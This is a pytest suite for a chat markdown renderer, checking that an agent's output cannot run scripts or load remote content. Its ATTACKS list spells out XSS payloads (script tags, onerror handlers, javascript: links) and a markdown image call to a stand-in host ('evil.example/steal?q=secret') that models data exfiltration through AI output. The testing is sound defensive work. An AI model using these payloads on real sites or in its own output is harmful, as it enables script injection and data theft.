"""What the agent says becomes HTML that cannot run, load or fetch anything, wherever it is cut."""

import re
from html.parser import HTMLParser

import pytest

from chat.web import markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/a)",
    "[x](/admin/logout)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/steal?q=secret)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/i)](https://evil.example/l)",
    "![x][r]\n\n[r]: https://evil.example/i 'onerror=alert(1)'",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    '```yaml" onmouseover="alert(1)\na: <script>\n```',
    "| a |\n|:-:|\n| <iframe src=//evil.example> |",
    "<!--<img src=--><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='x' style='position:fixed'>x</a>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example>",
]  # fmt: skip
TAGS = {
    "p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "div", "span",
    "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "target", "rel", "class", "start", "data-language", "tabindex", "role", "aria-label"}


class Seen(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.links = set(), set(), []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attributes)
        self.links.extend(value for name, value in attributes if name == "href")


def check(text):
    seen = Seen(markdown.to_html(text))
    assert seen.tags <= TAGS, text
    assert seen.attributes <= ATTRIBUTES, text
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in seen.links), text


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_stays_text_wherever_it_is_cut(attack):
    for end in range(len(attack) + 1):
        check(attack[:end])
        check(f"**bold {attack[:end]}")
        check(f"| a | b |\n|---|---|\n| {attack[:end]} | c |")


def test_an_image_is_a_link_and_never_loaded():
    html = markdown.to_html("![the graph](https://pictures.example/a.png)")
    assert "<img" not in html
    assert 'href="https://pictures.example/a.png"' in html
    assert "Image: the graph" in html


def test_a_link_says_where_it_goes_and_takes_nothing_along():
    html = markdown.to_html("[docs](https://kubernetes.io/docs)")
    assert 'title="kubernetes.io"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_headings_stay_below_those_of_the_page():
    html = markdown.to_html("## Two\n\n### Three\n\n###### Six")
    assert "<h3>Two</h3>" in html
    assert "<h4>Three</h4>" in html
    assert "<h6>Six</h6>" in html


def test_tables_keep_their_alignment_without_style():
    html = markdown.to_html("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert '<td class="align-right">1</td>' in html
    assert "style" not in html


def test_known_languages_are_coloured_and_unknown_ones_are_not():
    assert 'class="hl-nt"' in markdown.to_html("```yaml\nkind: Pod\n```")
    assert "hl-" not in markdown.to_html("```brainfuck\n+++\n```")
    assert 'class="hl-gi"' in markdown.to_html("```diff\n+ added\n```")


def test_what_is_too_long_to_read_as_markdown_is_kept_as_text():
    html = markdown.to_html("a " * markdown.LONGEST + "**the end**")
    assert "**the end**" in html


@pytest.mark.parametrize("piece", ["[", "![", "*a ", "> ", "`", "| a ", "- ", "<", "[a](", "**", "\\", "&"])
def test_repeated_marks_are_read_in_reasonable_time(piece):
    text = piece * (markdown.LONGEST // len(piece))
    assert markdown.to_html(text)


def test_characters_that_reorder_text_are_made_visible():
    assert "⟨U+202E⟩" in markdown.to_html("rm \u202etxt.exe")


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        ("[docs](https://kubernetes.io/docs)", "docs (kubernetes.io)"),
        ("<https://kubernetes.io/docs>", "https://kubernetes.io/docs"),
        ("[kubernetes.io](https://kubernetes.io/docs)", "kubernetes.io"),
        ("[https://good.example](https://evil.example)", "https://good.example (evil.example)"),
        ("[evil.example.good.example](https://evil.example)", "evil.example.good.example (evil.example)"),
        ("[good.example](https://good.example@evil.example/)", "good.example (evil.example)"),
        ("[**bold** `code`](https://a.example)", "bold code (a.example)"),
        ("![picture](https://a.example/x.png)", "Image: picture (a.example)"),
        ("[mail](mailto:a@b.example)", "mail (mailto:a@b.example)"),
    ],
)
def test_a_link_shows_where_it_leads(words, shown):
    html = markdown.to_html(words)
    assert re.sub(r"<[^>]+>", "", html).strip() == shown
    assert 'rel="noopener noreferrer nofollow"' in html
    assert "<img" not in html
